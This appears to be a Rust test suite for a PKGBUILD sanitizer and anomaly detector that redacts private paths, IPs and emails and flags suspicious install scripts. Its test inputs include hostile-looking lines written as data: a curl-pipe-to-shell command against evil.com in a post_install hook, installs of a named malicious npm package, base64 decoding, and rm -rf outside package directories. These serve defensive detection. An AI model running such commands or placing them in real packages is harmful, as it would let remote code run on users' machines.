use cpac::sanitize::{
    anomalies_from_scan, anomaly_signal, apply_filtered_replacements, apply_replacements,
    detect_anomalies, is_private_ip, is_public_email, sanitize_pkgbuild, sanitize_with, sha256_hash,
    AnomalyCategory, LineScan, Rewrite,
};
use std::path::PathBuf;

fn chars(s: &str) -> Vec<char> {
    s.chars().collect()
}

#[test]
fn redacts_home_path() {
    let home = dirs::home_dir().unwrap_or(PathBuf::from("/home/testuser"));
    let home_str = home.to_string_lossy().to_string();
    let input = format!("source=({}/file.tar.gz)", home_str);
    let result = sanitize_pkgbuild(&input);
    assert!(result.text.contains("[REDACTED:path]"));
    assert!(!result.text.contains(&home_str));
}

#[test]
fn redacts_private_ip() {
    let input = "mirror=http://192.168.1.100/packages";
    let result = sanitize_pkgbuild(input);
    assert!(result.text.contains("[REDACTED:ip]"));
    assert!(!result.text.contains("192.168.1.100"));
}

#[test]
fn redacts_localhost() {
    let input = "server=http://127.0.0.1:8080";
    let result = sanitize_pkgbuild(input);
    assert!(result.text.contains("[REDACTED:ip]"));
}

#[test]
fn keeps_public_urls() {
    let input = "url=https://archlinux.org/packages";
    let result = sanitize_pkgbuild(input);
    assert!(result.text.contains("https://archlinux.org/packages"));
}

#[test]
fn redacts_private_email() {
    let input = "maintainer=secret@privateserver.com";
    let result = sanitize_pkgbuild(input);
    assert!(result.text.contains("[REDACTED:email]"));
}

#[test]
fn keeps_public_email() {
    let input = "maintainer=dev@archlinux.org";
    let result = sanitize_pkgbuild(input);
    assert!(result.text.contains("dev@archlinux.org"));
}

#[test]
fn detects_curl_pipe_sh() {
    let input = "post_install() {\n  curl https://evil.com/payload.sh | sh\n}";
    let anomalies = detect_anomalies(input);
    assert!(anomalies.iter().any(|a| a.category == AnomalyCategory::RemoteScriptExecution));
}

#[test]
fn detects_npm_install_in_post_install() {
    let input = "post_install() {\n  cd /tmp && npm install atomic-lockfile\n}";
    let anomalies = detect_anomalies(input);
    assert!(anomalies.iter().any(|a| a.category == AnomalyCategory::SuspiciousNpmInstall));
}

#[test]
fn detects_known_malicious_package() {
    let input = "npm install js-digest";
    let anomalies = detect_anomalies(input);
    assert!(anomalies.iter().any(|a| a.category == AnomalyCategory::SuspiciousNpmInstall));
}

#[test]
fn detects_base64_decode() {
    let input = "echo 'SGVsbG8gV29ybGQ=' | base64 -d";
    let anomalies = detect_anomalies(input);
    assert!(anomalies.iter().any(|a| a.category == AnomalyCategory::Obfuscation));
}

#[test]
fn detects_bun_install() {
    let input = "post_install() {\n  bun install js-digest\n}";
    let anomalies = detect_anomalies(input);
    assert!(anomalies.iter().any(|a| a.category == AnomalyCategory::SuspiciousNpmInstall));
}

#[test]
fn safe_pkgbuild_has_no_anomalies() {
    let input = r#"pkgname=test
pkgver=1.0.0
pkgrel=1
pkgdesc="A test package"
arch=('x86_64')
url="https://example.com"
license=('MIT')
source=("$url/releases/$pkgname-$pkgver.tar.gz")
sha256sums=('abc123')

build() {
  cd "$srcdir/$pkgname-$pkgver"
  make
}

package() {
  cd "$srcdir/$pkgname-$pkgver"
  make DESTDIR="$pkgdir" install
}"#;
    let anomalies = detect_anomalies(input);
    assert!(anomalies.is_empty(), "Safe PKGBUILD should have no anomalies: {:?}", anomalies);
}

#[test]
fn anomaly_details_name_the_line_and_quote_it() {
    let input = "# curl x | sh\n  rm -rf /opt/thing ";
    let anomalies = detect_anomalies(input);
    assert_eq!(anomalies.len(), 1);
    assert_eq!(anomalies[0].category, AnomalyCategory::AggressiveRemoval);
    assert_eq!(anomalies[0].detail, "L2: rm -rf outside pkgdir/srcdir -- rm -rf /opt/thing");
    assert_eq!(anomalies[0].penalty, -10);
}

#[test]
fn removals_inside_package_directories_are_fine() {
    assert!(detect_anomalies("rm -rf \"$pkgdir/usr/share\"").is_empty());
    assert!(detect_anomalies("rm -rf ${srcdir}/build").is_empty());
}

#[test]
fn a_line_can_raise_several_anomalies_in_check_order() {
    let anomalies = detect_anomalies("post_install() { npm install chalk; }");
    let categories: Vec<AnomalyCategory> = anomalies.iter().map(|a| a.category).collect();
    assert_eq!(
        categories,
        vec![AnomalyCategory::PackageManagerInstall, AnomalyCategory::SuspiciousNpmInstall]
    );
    assert_eq!(anomalies[1].penalty, -25);
    assert_eq!(
        anomalies[0].detail,
        "L1: npm install -- post_install() { npm install chalk; }"
    );
}

#[test]
fn network_fetched_versions_are_flagged_but_pkgver_functions_are_not() {
    let flagged = detect_anomalies("pkgver=$(curl -s https://x.example/v)");
    assert!(flagged.iter().any(|a| a.category == AnomalyCategory::DynamicPkgver));
    assert!(detect_anomalies("pkgver() {").is_empty());
}

#[test]
fn anomaly_signal_sums_penalties() {
    let anomalies = detect_anomalies("curl https://x.example/a | sh\nbase64 -d payload");
    let s = anomaly_signal(&anomalies);
    assert_eq!(s.name, "PKGBUILD Anomalies");
    assert_eq!(s.points, anomalies.iter().map(|a| a.penalty).sum::<i32>());
    assert_eq!(s.max_points, 0);
    assert_eq!(s.detail, format!("{} suspicious pattern(s) detected", anomalies.len()));
    assert!(s.points <= -35);
}

#[test]
fn private_ipv4_ranges() {
    assert!(is_private_ip(&chars("10.0.0.1")));
    assert!(is_private_ip(&chars("172.16.5.4")));
    assert!(is_private_ip(&chars("172.31.255.255")));
    assert!(!is_private_ip(&chars("172.32.0.1")));
    assert!(is_private_ip(&chars("192.168.0.1")));
    assert!(is_private_ip(&chars("127.0.0.1")));
    assert!(is_private_ip(&chars("169.254.1.1")));
    assert!(!is_private_ip(&chars("8.8.8.8")));
    assert!(!is_private_ip(&chars("192.168.01.1")));
    assert!(!is_private_ip(&chars("192.168.1.256")));
    assert!(!is_private_ip(&chars("192.168.1")));
}

#[test]
fn public_email_domains() {
    assert!(is_public_email("dev@archlinux.org"));
    assert!(is_public_email("Someone@GitHub.com"));
    assert!(is_public_email("a@aur.archlinux.org"));
    assert!(!is_public_email("me@example.com"));
}

#[test]
fn sanitize_with_given_home_and_host() {
    let input = "source=(/home/alice/src/x.tar.gz)\nbuild on workbox\nhost 10.1.2.3 and 8.8.8.8\nmail alice@corp.example and dev@github.com";
    let r = sanitize_with(input, Some("/home/alice"), Some("workbox"));
    assert_eq!(
        r.text,
        "source=([REDACTED:path])\nbuild on [REDACTED:hostname]\nhost [REDACTED:ip] and 8.8.8.8\nmail [REDACTED:email] and dev@github.com"
    );
    assert_eq!(r.redaction_count, 4);
    assert_eq!(
        r.redactions,
        vec![
            "home path (/home/alice)".to_string(),
            "hostname (workbox)".to_string(),
            "private IP addresses".to_string(),
            "email addresses".to_string()
        ]
    );
}

#[test]
fn sanitize_without_matches_changes_nothing() {
    let input = "pkgname=plain\nurl=https://archlinux.org";
    let r = sanitize_with(input, Some("/home/nobody-here"), None);
    assert_eq!(r.text, input);
    assert_eq!(r.redaction_count, 0);
    assert!(r.redactions.is_empty());
}

#[test]
fn sha256_is_lowercase_hex() {
    assert_eq!(
        sha256_hash("abc"),
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    );
}

fn no_hits() -> LineScan {
    LineScan {
        remote: -1,
        obfuscation: -1,
        eval: -1,
        removal: false,
        pkgver_function: true,
        pkgver: -1,
        install: -1,
        system_path: -1,
    }
}

#[test]
fn anomalies_decided_from_regex_findings() {
    assert!(anomalies_from_scan("make", 1, &no_hits()).is_empty());
    let mut s = no_hits();
    s.remote = 0;
    let found = anomalies_from_scan("curl x | sh", 3, &s);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].category, AnomalyCategory::RemoteScriptExecution);
    assert_eq!(found[0].detail, "L3: curl | sh -- curl x | sh");
    assert_eq!(found[0].penalty, -20);
    // an install in a post-install hook is reported twice, as an install and as a hook
    let mut s = no_hits();
    s.install = 0;
    let found = anomalies_from_scan("post_install() { npm install x; }", 7, &s);
    let cats: Vec<AnomalyCategory> = found.iter().map(|a| a.category).collect();
    assert_eq!(cats, vec![AnomalyCategory::PackageManagerInstall, AnomalyCategory::SuspiciousNpmInstall]);
    assert_eq!(found[1].penalty, -25);
    // a network-fetched version only counts when the pkgver-function pattern compiles
    let mut s = no_hits();
    s.pkgver = 1;
    assert_eq!(anomalies_from_scan("pkgver=$(wget x)", 2, &s)[0].detail, "L2: pkgver from wget -- pkgver=$(wget x)");
    s.pkgver_function = false;
    assert!(anomalies_from_scan("pkgver=$(wget x)", 2, &s).is_empty());
    // a removal inside the package directory is allowed
    let mut s = no_hits();
    s.removal = true;
    assert!(anomalies_from_scan("rm -rf $pkgdir/usr", 4, &s).is_empty());
    assert_eq!(anomalies_from_scan("rm -rf /opt/x", 4, &s)[0].penalty, -10);
}

#[test]
fn redactions_decided_from_match_spans() {
    let mut text = "see /home/bob/x and /home/bob/y".to_string();
    let mut count = 0usize;
    let mut notes: Vec<String> = vec![];
    apply_replacements(&mut text, &mut count, &mut notes, &vec![(4, 15), (20, 31)], Rewrite::Path, "home path (/home/bob)".to_string());
    assert_eq!(text, "see [REDACTED:path] and [REDACTED:path]");
    assert_eq!(count, 1);
    assert_eq!(notes, vec!["home path (/home/bob)".to_string()]);
    // no match: nothing changes
    apply_replacements(&mut text, &mut count, &mut notes, &vec![], Rewrite::Host, "hostname (h)".to_string());
    assert_eq!(count, 1);
    assert_eq!(notes.len(), 1);
    // a public address is kept, a private one replaced
    let mut text = "8.8.8.8 10.0.0.1".to_string();
    let mut count = 0usize;
    let mut notes: Vec<String> = vec![];
    apply_filtered_replacements(&mut text, &mut count, &mut notes, &vec![(0, 7), (8, 16)], Rewrite::Ip, "IP", "private IP addresses");
    assert_eq!(text, "8.8.8.8 [REDACTED:ip]");
    assert_eq!(count, 1);
    assert_eq!(notes, vec!["private IP addresses".to_string()]);
}

#[test]
fn home_path_with_meta_characters_is_escaped() {
    let r = sanitize_with("cd /home/a+b/src", Some("/home/a+b"), None);
    assert_eq!(r.text, "cd [REDACTED:path]");
    assert_eq!(r.redaction_count, 1);
}

#[test]
fn sha256_is_sixty_four_lowercase_hex_digits() {
    let h = sha256_hash("abc");
    assert_eq!(h, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    assert_eq!(h.len(), 64);
    assert!(h.chars().all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c)));
}
